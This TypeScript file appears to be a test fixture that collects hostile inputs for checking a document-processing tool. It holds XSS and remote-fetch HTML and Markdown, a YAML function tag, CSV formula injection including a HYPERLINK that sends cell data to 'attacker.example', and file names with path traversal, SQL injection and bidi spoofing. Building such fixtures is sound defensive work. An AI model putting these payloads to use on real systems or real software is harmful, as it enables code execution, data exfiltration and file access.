const elsewhere = "https://attacker.example";
const run = "globalThis.attacked = true";

/** Texts in every format that try to be executed, fetched or believed. */
export const hostileTexts: Readonly<Record<string, string>> = {
  "scripts.html": `<!doctype html><html><head><title>Report</title><base href="${elsewhere}/">
<meta http-equiv="refresh" content="0; url=${elsewhere}/refresh"><link rel="stylesheet" href="${elsewhere}/style.css">
<link rel="prefetch" href="${elsewhere}/prefetch"><script>${run}</script><script src="${elsewhere}/script.js"></script>
<style>@import "${elsewhere}/import.css"; body { background: url(${elsewhere}/background) }</style></head>
<body onload="${run}" background="${elsewhere}/body"><p>The heliostat field has 4212 mirrors.</p>
<img src="${elsewhere}/pixel.png" onerror="${run}"><img srcset="${elsewhere}/set.png 1x"><svg onload="${run}"><script>${run}</script><use href="${elsewhere}/use.svg#x"></use></svg>
<iframe src="${elsewhere}/frame" srcdoc="<script>parent.attacked = true</script>"></iframe><object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">
<video src="${elsewhere}/video" poster="${elsewhere}/poster" autoplay></video><audio src="${elsewhere}/audio" autoplay></audio>
<form action="${elsewhere}/form"><button autofocus onfocus="${run}" formaction="javascript:${run}">x</button></form>
<a href="javascript:${run}" ping="${elsewhere}/ping">a link</a><math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>
<template><script>${run}</script></template><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript></body></html>`,
  "unclosed.html": `<p>The heliostat field${"<div><b><i><table><tr><td>".repeat(3_000)}has 4212 mirrors.`,
  "entities.html": `<p>${"&amp;".repeat(2_000)}&#0;&#x110000;&#xD800;&notanentity; mirrors &lt;script&gt;${run}&lt;/script&gt;</p>`,
  "scripts.md": `# Report\n\n<script>${run}</script>\n\n![pixel](${elsewhere}/pixel.png) [link](javascript:${run}) <img src=x onerror="${run}">\n\n[ref]: ${elsewhere}/ref\n\nThe heliostat field has 4212 mirrors. <${elsewhere}/auto>\n`,
  "front-matter.md": `---\ntitle: !!js/function "function(){${run}}"\na: &a [*a, *a]\n__proto__: { attacked: true }\n---\n\nThe heliostat field has 4212 mirrors.\n`,
  "formulas.csv": `name,value\n=cmd|'/c calc'!A1,1\n"=HYPERLINK(""${elsewhere}/?""&A1,""x"")",2\n+1+1,3\n@SUM(1),4\n__proto__,5\nmirrors,4212\n`,
  "quotes.csv": `a,b\n"${'""'.repeat(5_000)}\nmirrors,4212`,
  "wide.csv": `${"column,".repeat(20_000)}\n${"4212,".repeat(20_000)}\n`,
  "one-line.txt": "mirror ".repeat(60_000),
  "controls.txt": `The \u202e4212\u202c mirrors\u0000\u0007\u001b]0;title\u0007\u001b[31m are \u2066red\u2069.\ufeff\ufffe\n\u0085\u2028\u2029end\n`,
  "combining.txt": `mirror${"\u0301".repeat(50_000)}s 4212\n`,
};

/** Names with a special meaning to a shell, a file system, a database or a reader's eye. */
export const hostileNames: readonly string[] = [
  "../../../etc/passwd.txt",
  "..\\..\\windows\\system.txt",
  "/absolute/path.txt",
  "C:\\path.txt",
  "invoice\u202efdp.txt",
  "\u2066isolated\u2069.txt",
  "bell\u0007and\u0000nothing.txt",
  "line\nbreak.txt",
  "<img src=x onerror=globalThis.attacked=true>.txt",
  "'; DROP TABLE documents; --.txt",
  "__proto__.txt",
  "constructor",
  "%2e%2e%2fencoded.txt",
  ".txt",
  " .txt",
  `${"long".repeat(600)}.txt`,
  "\ud800half.txt",
  "collection.pagehound",
  "archive.zip",
  "archive.tar.gz",
  "report.docx",
  "photo.pdf.exe",
];
